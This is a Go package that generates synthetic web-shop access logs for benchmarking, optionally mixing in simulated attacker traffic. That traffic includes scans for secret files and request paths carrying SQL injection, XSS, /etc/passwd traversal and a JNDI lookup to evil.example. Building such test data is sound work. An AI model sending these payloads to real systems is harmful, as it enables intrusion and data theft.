// Package logtest makes access logs for benchmarks and comparisons: a shop
// with an API, in the combined format.
//
// It takes a size, a cardinality and a seed and gives lines in order of time,
// on request with attackers among the visitors. Invariant: the same Config
// gives the same bytes. Limits: no dialect but combined, no bodies; what it
// draws is plausible and stands for no real site, so figures taken from it
// compare programs and say nothing about precision.
package logtest

import (
	"bufio"
	"io"
	"math"
	"math/rand/v2"
	"strconv"
	"time"
)

// Config says what to draw. Zero fields take the defaults of a site of medium
// size.
type Config struct {
	Lines   int
	Seed    uint64
	Rate    int  // lines a second; default 40
	High    bool // high cardinality: more visitors than one remembers, hardly a URL twice
	Attacks bool // scanners, guessers, scrapers and floods among the visitors
}

// start is the time of the first line.
var start = time.Date(2023, 11, 14, 22, 13, 20, 0, time.UTC)

// Write writes the log.
func Write(w io.Writer, cfg Config) error {
	if cfg.Rate <= 0 {
		cfg.Rate = 40
	}
	g := &generator{cfg: cfg, rnd: rand.New(rand.NewPCG(cfg.Seed, 0x9e3779b97f4a7c15)), out: bufio.NewWriterSize(w, 1<<16)}
	g.people()
	for i := range cfg.Lines {
		g.now = int64(i / cfg.Rate)
		if cfg.Attacks && g.rnd.IntN(8) == 0 {
			g.attack()
		} else {
			g.visit()
		}
		if err := g.line(); err != nil {
			return err
		}
	}
	return g.out.Flush()
}

type visitor struct {
	ip    string
	agent string
}

type generator struct {
	cfg      Config
	rnd      *rand.Rand
	out      *bufio.Writer
	buf      []byte
	visitors []visitor
	now      int64 // seconds since start
	stamp    []byte
	stamped  int64

	// the line being drawn
	who      visitor
	method   string
	path     []byte
	status   int
	size     int
	referrer string

	walk  int // where the scraper is
	guess int
}

// Cardinalities: visitors, products, orders, pages.
type scale struct{ visitors, products, orders, pages, users int }

func (c Config) scale() scale {
	if c.High {
		return scale{60000, 200000, 500000, 500, 60000}
	}
	return scale{8000, 3000, 20000, 60, 8000}
}

func (g *generator) people() {
	var agents []string
	for v := range 15 {
		agents = append(agents, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/"+strconv.Itoa(110+v)+".0.0.0 Safari/537.36")
	}
	for v := range 6 {
		n := strconv.Itoa(v)
		agents = append(agents, "Mozilla/5.0 (iPhone; CPU iPhone OS 16_"+n+" like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16."+n+" Mobile/15E148 Safari/604.1")
	}
	agents = append(agents, "okhttp/4.9.3", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0")
	first := [...]int{36, 42, 58, 60, 101, 112, 117, 183, 220, 223}
	for range g.cfg.scale().visitors {
		g.visitors = append(g.visitors, visitor{address(first[g.rnd.IntN(len(first))], g.rnd.IntN(256), g.rnd.IntN(256), 1+g.rnd.IntN(254)), agents[g.rnd.IntN(len(agents))]})
	}
}

func address(a, b, c, d int) string {
	return strconv.Itoa(a) + "." + strconv.Itoa(b) + "." + strconv.Itoa(c) + "." + strconv.Itoa(d)
}

// pick draws below n: some often, most seldom. In the high cardinality all are
// alike.
func (g *generator) pick(n int) int {
	if g.cfg.High {
		return g.rnd.IntN(n)
	}
	return int(math.Pow(g.rnd.Float64(), 4) * float64(n))
}

func (g *generator) to(method, path string, status int) {
	g.method, g.path, g.status = method, append(g.path[:0], path...), status
}

func (g *generator) number(n int)       { g.path = strconv.AppendInt(g.path, int64(n), 10) }
func (g *generator) text(s string)      { g.path = append(g.path, s...) }
func (g *generator) chance(in int) bool { return g.rnd.IntN(in) == 0 }

// visit draws what an honest visitor does.
func (g *generator) visit() {
	n := g.cfg.scale()
	r := g.rnd.Float64()
	g.who = g.visitors[int(r*r*float64(len(g.visitors)))] // some come far more often
	g.size, g.referrer = 100+g.rnd.IntN(20000), "https://shop.example.com/"
	switch r := g.rnd.IntN(100); {
	case r < 40:
		g.to("GET", "/api/v1/products/", 200)
		g.number(g.pick(n.products))
	case r < 60:
		g.to("GET", "/api/v1/products?page=", 200)
		g.number(g.pick(n.pages))
		g.text("&size=20")
	case r < 70:
		g.to("POST", "/api/v1/cart/items", 201)
	case r < 80:
		g.to("GET", "/api/v1/orders/", 200)
		g.number(g.pick(n.orders))
	case r < 85:
		g.to("POST", "/api/v1/auth/login", 200)
		if g.chance(10) {
			g.status = 401
		}
	case r < 95:
		g.to("GET", "/static/js/app.", 200)
		g.number(g.rnd.IntN(40))
		g.text(".js")
		if g.chance(5) {
			g.status = 304
		}
	default:
		g.to("GET", "/api/v1/users/", 200)
		g.number(g.pick(n.users))
		g.text("/profile")
		if g.chance(30) {
			g.status = 404
		}
	}
}

var (
	scanned  = [...]string{"/.env", "/wp-login.php", "/admin/", "/phpmyadmin/index.php", "/.git/config", "/actuator/env", "/backup.zip", "/cgi-bin/test.cgi", "/server-status", "/config.json"}
	payloads = [...]string{"/api/v1/products?id=1%27%20OR%20%271%27=%271", "/api/v1/products?q=%3Cscript%3Ealert(1)%3C/script%3E", "/api/v1/products?file=../../../../etc/passwd", "/api/v1/products?x=$%7Bjndi:ldap://evil.example/a%7D"}
)

// attack draws what one of several attackers does; each has an hour of its own
// and comes back.
func (g *generator) attack() {
	g.referrer = "-"
	g.size = 50 + g.rnd.IntN(300)
	switch hour := g.now / 1800 % 8; hour {
	case 0: // a scanner from one address
		g.who = visitor{"203.0.113.7", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"}
		if g.chance(3) {
			g.to("GET", payloads[g.rnd.IntN(len(payloads))], 400)
		} else {
			g.to("GET", scanned[g.rnd.IntN(len(scanned))], 404)
			if g.chance(2) {
				g.number(g.rnd.IntN(500))
			}
		}
	case 1: // a guesser from one address
		g.who = visitor{"198.51.100.23", "python-requests/2.31.0"}
		g.to("POST", "/api/v1/auth/login", 401)
		if g.chance(200) {
			g.status = 200
		}
	case 2: // a scraper that counts through the products
		g.who = visitor{"192.0.2.99", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/119.0.0.0 Safari/537.36"}
		g.to("GET", "/api/v1/products/", 200)
		g.number(g.walk)
		g.walk++
	case 3: // a herd that tries stolen pairs
		g.who = visitor{address(45, 9, g.guess/97%4, 1+g.guess%97), "Go-http-client/1.1"}
		g.guess++
		g.to("POST", "/api/v1/auth/login", 401)
	case 4: // a flood
		g.who = visitor{"203.0.113.200", "curl/8.4.0"}
		g.to("GET", "/api/v1/products?page=1&size=20", 200)
	case 5: // other people's profiles, guessed by number
		g.who = visitor{"198.51.100.77", "okhttp/4.9.3"}
		g.to("GET", "/api/v1/users/", 200)
		g.number(g.rnd.IntN(3 * g.cfg.scale().users))
		g.text("/profile")
		if g.chance(2) {
			g.status = 404
		}
	case 6: // scrapers side by side
		g.who = visitor{address(45, 77, 3, 1+g.rnd.IntN(40)), "Mozilla/5.0 (Windows NT 10.0; rv:102.0) Gecko/20100101 Firefox/102.0"}
		g.to("GET", "/api/v1/orders/", 200)
		g.number(g.walk)
		g.walk++
		if g.chance(9) {
			g.status = 404
		}
	default: // a monitor: no attack
		g.who = visitor{"192.0.2.5", "UptimeRobot/2.0"}
		g.to("GET", "/api/v1/health", 200)
	}
}

func (g *generator) line() error {
	if g.stamp == nil || g.stamped != g.now {
		g.stamp = start.Add(time.Duration(g.now)*time.Second).AppendFormat(g.stamp[:0], "02/Jan/2006:15:04:05 -0700")
		g.stamped = g.now
	}
	b := append(g.buf[:0], g.who.ip...)
	b = append(b, " - - ["...)
	b = append(b, g.stamp...)
	b = append(b, `] "`...)
	b = append(b, g.method...)
	b = append(b, ' ')
	b = append(b, g.path...)
	b = append(b, ` HTTP/1.1" `...)
	b = strconv.AppendInt(b, int64(g.status), 10)
	b = append(b, ' ')
	b = strconv.AppendInt(b, int64(g.size), 10)
	b = append(b, ` "`...)
	b = append(b, g.referrer...)
	b = append(b, `" "`...)
	b = append(b, g.who.agent...)
	b = append(b, "\"\n"...)
	g.buf = b
	_, err := g.out.Write(b)
	return err
}
